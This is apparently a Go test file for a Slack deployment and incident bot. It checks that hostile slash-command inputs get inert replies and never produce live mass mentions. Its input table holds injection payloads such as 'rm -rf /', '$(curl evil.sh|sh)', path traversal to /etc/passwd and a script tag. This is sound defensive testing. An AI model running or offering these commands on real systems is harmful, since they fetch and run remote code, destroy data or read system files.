//go:build !nosandbox

package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/opsbot-dev/opsbot/sandbox/fakegithub"
	"github.com/opsbot-dev/opsbot/sandbox/fakeslack"
	"github.com/opsbot-dev/opsbot/store"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// hostileInputs are typed by a person as they are here: the sandbox Slack escapes them and
// turns @channel, @here, @everyone, @group and @person into Slack's mentions, as Slack does.
// The incident ones are typed in the first incident's channel, in this order.
var hostileInputs = []struct {
	user, channel, command, text string
}{
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "1.0.0; rm -rf /"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "$(curl evil.sh|sh)"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "`id`"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0 to ../../etc/passwd"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "ｖ1.0.0"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0 to ѕtaging"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "@channel"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0 to @here"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "@bob"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "@deployers"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0\u202e"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0 to prod\nuction"},
	{fakeslack.Alice, fakeslack.Deploys, "/deploy", strings.Repeat("x", 10240)},
	{fakeslack.Alice, fakeslack.Deploys, "/release", "v1.0.0 && curl evil.sh"},
	{fakeslack.Alice, fakeslack.Deploys, "/release", "<script>alert(1)</script>"},
	{fakeslack.Alice, fakeslack.Deploys, "/rollback", "production ../v0.1.0"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev2 @channel checkout is down, ask @here and @deployers"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev3 ../../etc/passwd; rm -rf / $(id)"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev3 Pay with ｖisa fails <script>"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev1 Checkout\n@channel all hands"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev1 Checkout \u202egnp.exe"},
	{fakeslack.Carol, fakeslack.Incidents, "/incident", "declare sev2 " + strings.Repeat("x", 10240)},
	{fakeslack.Carol, "", "/incident", "update identified @everyone: it was @bob's deploy, tell @deployers"},
	{fakeslack.Carol, "", "/incident", "followup @channel add a test for `rm -rf /`"},
	{fakeslack.Carol, "", "/incident", "commander @product-owners"},
	{fakeslack.Carol, "", "/incident", "resolve @here rolled back; <!channel> &amp; <@U0BOB>"},
}

// TestHostileInputGetsAnInertAnswer sends each hostile input through the real serve path and
// records what the person is shown (testdata/hostile.golden; -update rewrites it). Then it
// reads everything the bot posted in any channel — and what it sent PagerDuty and the status
// page — and finds no live @channel, @here, @everyone or user-group mention from what people
// typed: titles, updates, summaries, follow-ups and a reject reason.
func TestHostileInputGetsAnInertAnswer(t *testing.T) {
	t.Parallel()
	b := startTestBot(t, testBotOptions{github: fakegithub.Options{Reviewer: "erin"}})
	ctx := context.Background()

	var got strings.Builder
	incidentChannel := ""
	for _, in := range hostileInputs {
		channel := in.channel
		if channel == "" {
			channel = incidentChannel
		}
		before := len(shownTo(b.sb, channel, in.user))
		audits, err := b.app.Store.ListAudit(ctx, store.AuditQuery{Actor: in.user})
		require.NoError(t, err)
		b.slash(in.user, channel, in.command, in.text)
		b.audited(in.user, len(audits)+1)
		var replies []string
		require.Eventually(t, func() bool {
			replies = shownTo(b.sb, channel, in.user)[before:]
			return len(replies) > 0
		}, waitFor, tick, "%s %.80q: no answer", in.command, in.text)
		fmt.Fprintf(&got, "> %s %s\n", in.command, clipInput(in.text))
		for _, r := range replies {
			fmt.Fprintf(&got, "  %s\n", strings.ReplaceAll(r, "\n", "\n  "))
		}
		if incidentChannel == "" && strings.HasPrefix(in.text, "declare") {
			runs, err := b.app.Store.ListRuns(ctx, store.RunQuery{Kinds: []store.RunKind{store.KindIncident}})
			require.NoError(t, err)
			if len(runs) == 1 {
				// Its channel, once the declaration is done (so that what it says next does
				// not depend on how far the declaration got).
				incidentChannel = b.run(store.KindIncident, runs[0].Title, stepIs("respond", store.StepWaiting)).Channel
			}
		}
	}

	// A reject reason comes from a modal, where nothing is escaped on the way in.
	reason := "<!channel> <!here> @everyone <!subteam^S0DEPLOYERS|@deployers> not today"
	b.slash(fakeslack.Alice, fakeslack.Deploys, "/release", "v1.0.0")
	b.run(store.KindRelease, "Release v1.0.0", func(r store.Run) bool { return r.State == store.RunSucceeded })
	b.slash(fakeslack.Alice, fakeslack.Deploys, "/deploy", "v1.0.0")
	b.tickChecklist("Deploy v1.0.0 → production")
	b.run(store.KindDeploy, "Deploy v1.0.0 → production", stepIs("approval", store.StepWaiting))
	require.Eventually(t, func() bool { return len(botPosts(b.sb, fakeslack.Deploys, "is ready for production")) == 1 }, waitFor, tick)
	b.click(fakeslack.Bob, fakeslack.Deploys, "Reject", "")
	require.Eventually(t, func() bool { _, open := b.sb.Slack.OpenView(fakeslack.Bob); return open }, waitFor, tick, "the reject form opens")
	_, err := b.sb.Slack.SubmitView(ctx, fakeslack.Bob, map[string]string{"reason": reason})
	require.NoError(t, err)
	require.Eventually(t, func() bool { return len(botPosts(b.sb, fakeslack.Deploys, "rejected the deploy")) == 1 }, waitFor, tick)
	fmt.Fprintf(&got, "> reject reason %s\n  %s\n", reason, botPosts(b.sb, fakeslack.Deploys, "rejected the deploy")[0].Text)

	require.Eventually(t, func() bool { return b.app.Idle(ctx) }, waitFor, tick, "the bot finishes what it was asked")
	golden := filepath.Join("testdata", "hostile.golden")
	text := normalizeReplies(got.String())
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(golden, []byte(text), 0o644))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err)
	require.Equal(t, string(want), text, "the answers to hostile input changed; rerun with -update if that is intended")

	// Nothing the bot posted to a channel carries a mention of many from user text. The bot
	// itself never mentions @channel, @here or @everyone, nor @deployers outside #deploys'
	// ephemerals, so any such mention would have come from what was typed.
	live := regexp.MustCompile(`<!(channel|here|everyone)\b|<!subteam\^S0DEPLOYERS`)
	channels := []string{fakeslack.Deploys, fakeslack.Incidents, fakeslack.Stakeholders}
	runs, err := b.app.Store.ListRuns(ctx, store.RunQuery{Kinds: []store.RunKind{store.KindIncident}})
	require.NoError(t, err)
	for _, r := range runs {
		channels = append(channels, r.Channel)
	}
	posts := 0
	for _, ch := range channels {
		for _, m := range b.sb.Slack.Messages(ch) {
			if m.User != fakeslack.BotUserID || m.For != "" {
				continue
			}
			posts++
			require.False(t, live.MatchString(m.Text), "a live mention in %s: %q", ch, m.Text)
			require.False(t, live.MatchString(string(m.Blocks)), "a live mention in %s's blocks: %s", ch, m.Blocks)
		}
	}
	for _, inc := range b.sb.PagerDuty.Incidents() {
		require.NotContains(t, inc.Title, "<!", "PagerDuty gets no Slack markup")
	}
	for _, inc := range b.sb.Statuspage.Incidents() {
		require.NotContains(t, inc.Name, "<!", "the status page gets no Slack markup")
	}
	t.Logf("%d hostile inputs answered; %d channel posts in %d channels, none with a live mention from user text",
		len(hostileInputs)+1, posts, len(channels))
}

// clipInput shows a long input by its start and length.
func clipInput(s string) string {
	if len(s) <= 100 {
		return fmt.Sprintf("%q", s)
	}
	return fmt.Sprintf("%q… (%d bytes)", s[:40], len(s))
}

// normalizeReplies replaces what changes from run to run (dates, the day in channel names).
func normalizeReplies(s string) string {
	s = regexp.MustCompile(`<!date\^[0-9]+\^[^|>]*\|[^>]*>`).ReplaceAllString(s, "<date>")
	return regexp.MustCompile(`inc-[0-9]{8}`).ReplaceAllString(s, "inc-YYYYMMDD")
}
